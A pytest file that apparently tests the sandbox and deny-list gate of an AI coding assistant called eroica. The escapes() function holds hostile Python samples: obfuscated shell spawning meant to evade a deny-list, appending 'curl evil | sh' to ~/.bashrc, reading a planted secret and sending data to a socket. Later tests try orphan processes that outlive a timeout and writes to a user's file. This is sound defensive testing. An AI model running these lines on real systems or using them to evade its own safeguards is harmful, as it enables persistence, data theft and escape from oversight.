"""The gate is a sandbox, not only a deny-list. Every escape that passed the old deny-list is tried
twice: as a drafted diff (the deny-list now names it) and as the repository's own validation
command, which runs for real in bubblewrap: none of them writes outside the scratch copy, reads a
secret planted in eroica's environment, reaches a socket listening on this machine, or tests the
original checkout instead of the draft; a command that outlives its timeout is killed with every
process it started."""

from __future__ import annotations

import os
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import psutil
import pytest

from eroica.assistant import sandbox
from eroica.assistant.edits import unified_diff
from eroica.assistant.gate import Scope, check_diff

WHY_NOT = sandbox.probe()
pytestmark = pytest.mark.skipif(WHY_NOT is not None, reason=f"no sandbox here: {WHY_NOT} (.ci/run installs it)")

TRAIN = "def main(loader, model, opt):\n    for x in loader:\n        model(x).sum().backward()\n        opt.step()\n"
LOOP = "        opt.step()\n"
SECRET = "EROICA_PLANTED_SECRET"


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    r = tmp_path / "repo"
    r.mkdir()
    (r / "train.py").write_text(TRAIN)
    return r


@pytest.fixture
def outside() -> Iterator[Path]:
    """Where an escape would write: a directory outside the scratch copy that eroica can write and
    the sandbox can see (not under /tmp, which the sandbox replaces with its own)."""
    import shutil
    import tempfile

    d = Path(tempfile.mkdtemp(prefix="eroica-outside-", dir="/var/tmp"))
    yield d
    shutil.rmtree(d, ignore_errors=True)


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP server on this machine's loopback, recording any connection."""
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    s.listen()
    s.settimeout(0.2)
    got: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                c, _ = s.accept()
            except OSError:
                continue
            got.append(c.recv(100))
            c.close()
    t = threading.Thread(target=serve, daemon=True)
    t.start()
    yield s.getsockname()[1], got
    stop.set()
    t.join(2)
    s.close()


@pytest.fixture(autouse=True)
def planted_secret(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(SECRET, "hunter2-in-the-environment")


def escapes(outside: Path, port: int) -> dict[str, str]:
    """Python that tries to get out: each line of it a way the old deny-list let through."""
    pwn = outside / "pwned"
    return {
        "os.posix_spawn": f"import os; os.posix_spawn('/bin/sh', ['sh', '-c', 'echo x > {pwn}-spawn'], os.environ)",
        "os.execvpe": f"import os; os.execvpe('sh', ['sh', '-c', 'echo x > {pwn}-exec'], os.environ)",
        "getattr(os, 'sys' + 'tem')": f"import os; getattr(os, 'sys' + 'tem')('echo x > {pwn}-getattr')",
        "vars(__builtins__)['ex' + 'ec']": f"vars(__builtins__)['ex' + 'ec'](\"open('{pwn}-exec2', 'w').write('x')\")",
        "open(home, 'a')": "import os; open(os.path.expanduser('~/.bashrc'), 'a').write('curl evil | sh')",
        "open(outside, 'w')": f"open('{pwn}-open', 'w').write('x')",
        "a planted secret": f"import os; assert not os.environ.get('{SECRET}'), os.environ['{SECRET}']",
        "a socket": f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=2).send(b'leak')",
    }


@pytest.mark.parametrize("name", ["os.posix_spawn", "os.execvpe", "getattr(os, 'sys' + 'tem')",
                                  "vars(__builtins__)['ex' + 'ec']", "open(outside, 'w')"])
def test_each_escape_as_a_drafted_diff_is_named_by_the_deny_list(repo: Path, outside: Path, name: str) -> None:
    code = escapes(outside, 1)[name].replace("; ", "\n        ")
    diff = unified_diff("train.py", TRAIN, TRAIN.replace(LOOP, LOOP + "        " + code + "\n"))
    r = check_diff(diff, repo, Scope(lines={"train.py": [(2, 4)]}), validate="true")
    assert r.refusal is not None and "adds" in r.refusal, (name, r.refusal)
    assert list(outside.iterdir()) == []


def test_open_of_a_home_file_for_append_is_named_too(repo: Path) -> None:
    new = TRAIN.replace(LOOP, LOOP + "        open('~/.bashrc', 'a').write('x')\n")
    r = check_diff(unified_diff("train.py", TRAIN, new), repo, Scope(lines={"train.py": [(2, 4)]}), validate="true")
    assert r.refusal is not None and "a write outside the repository" in r.refusal


def test_each_escape_as_the_repositorys_validation_is_contained(repo: Path, outside: Path,
                                                                listener: tuple[int, list[bytes]]) -> None:
    port, got = listener
    home_rc = Path.home() / ".bashrc"
    before = home_rc.read_bytes() if home_rc.exists() else None
    results = {}
    for name, code in escapes(outside, port).items():
        (repo / "escape.py").write_text(code + "\n")
        diff = unified_diff("train.py", TRAIN, TRAIN.replace(LOOP, "        opt.step()  # one step\n"))
        r = check_diff(diff, repo, Scope(lines={"train.py": [(2, 4)]}), validate="python escape.py", timeout=30)
        results[name] = (r.refusal or "passed", r.validation_output[-300:])
    assert "Read-only file system" in results["open(outside, 'w')"][0], results    # it was there to be written
    assert list(outside.iterdir()) == [], results                   # nothing written outside the scratch copy
    assert (home_rc.read_bytes() if home_rc.exists() else None) == before
    assert got == [], results                                        # no connection reached this machine
    # the secret: the command ran, and found no such variable
    assert results["a planted secret"][0] == "passed", results["a planted secret"]
    assert "hunter2" not in "".join(out for _, out in results.values())


def test_the_validation_tests_the_draft_not_the_original_checkout(repo: Path) -> None:
    (repo / "check.py").write_text("import train, sys\nprint(train.__file__)\nsys.exit(0 if 'STEP2' in "
                                   "open(train.__file__).read() else 3)\n")
    diff = unified_diff("train.py", TRAIN, TRAIN.replace(LOOP, "        opt.step()  # STEP2\n"))
    r = check_diff(diff, repo, Scope(lines={"train.py": [(2, 4)]}), validate="python check.py")
    assert r.refusal is None, (r.refusal, r.validation_output)
    assert str(repo) not in r.validation_output
    r = check_diff(diff, repo, Scope(lines={"train.py": [(2, 4)]}),
                   validate=f"python -c \"open('{repo / 'train.py'}').read()\"")
    assert r.refusal is not None                                     # the original is not even readable


def test_a_command_that_outlives_its_timeout_is_killed_with_everything_it_started(repo: Path) -> None:
    (repo / "slow.py").write_text("import subprocess, time\nsubprocess.Popen(['sleep', '4242'])\n"
                                  "subprocess.Popen(['sh', '-c', 'sleep 4243 &'])\ntime.sleep(60)\n")
    diff = unified_diff("train.py", TRAIN, TRAIN.replace(LOOP, "        opt.step()  # one step\n"))
    t0 = time.monotonic()
    r = check_diff(diff, repo, Scope(lines={"train.py": [(2, 4)]}), validate="python slow.py", timeout=2)
    assert r.refusal is not None and "timed out after 2 s" in r.refusal
    assert time.monotonic() - t0 < 20
    time.sleep(0.5)
    left = [p.info["cmdline"] for p in psutil.process_iter(["cmdline"])
            if p.info["cmdline"] and p.info["cmdline"][-1] in ("4242", "4243")]
    assert left == []


def test_a_big_file_is_shown_read_only_never_linked_into_the_checkout(repo: Path) -> None:
    from eroica.assistant.gate import BIG_FILE_BYTES

    big = repo / "data.bin"
    with big.open("wb") as f:
        f.truncate(BIG_FILE_BYTES + 1)
    (repo / "touch.py").write_text("import sys\nprint(len(open('data.bin', 'rb').read(10)))\n"
                                   "open('data.bin', 'r+b').write(b'pwn')\n")
    diff = unified_diff("train.py", TRAIN, TRAIN.replace(LOOP, "        opt.step()  # one step\n"))
    r = check_diff(diff, repo, Scope(lines={"train.py": [(2, 4)]}), validate="python touch.py")
    assert r.refusal is not None and ("Read-only" in r.validation_output or "Permission" in r.validation_output)
    assert big.read_bytes()[:3] == b"\0\0\0"                         # the user's file is untouched
    assert "10" in r.validation_output                               # and it was readable


def test_no_sandbox_means_no_validation_unless_asked(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox, "probe", lambda: "bubblewrap (bwrap) is not installed: apt-get install bubblewrap")
    diff = unified_diff("train.py", TRAIN, TRAIN.replace(LOOP, "        opt.step()  # one step\n"))
    r = check_diff(diff, repo, Scope(lines={"train.py": [(2, 4)]}), validate="python -c 'print(1)'")
    assert r.refusal is not None and "was not run" in r.refusal and "apt-get install bubblewrap" in r.refusal
    r = check_diff(diff, repo, Scope(lines={"train.py": [(2, 4)]}), validate="python -c 'import os; "
                   f"assert not os.environ.get(\"{SECRET}\")'", sandboxed=False)
    assert r.refusal is None and "WITHOUT a sandbox" in r.checks[-1]
    assert os.environ[SECRET]                                        # (it was there to be found)
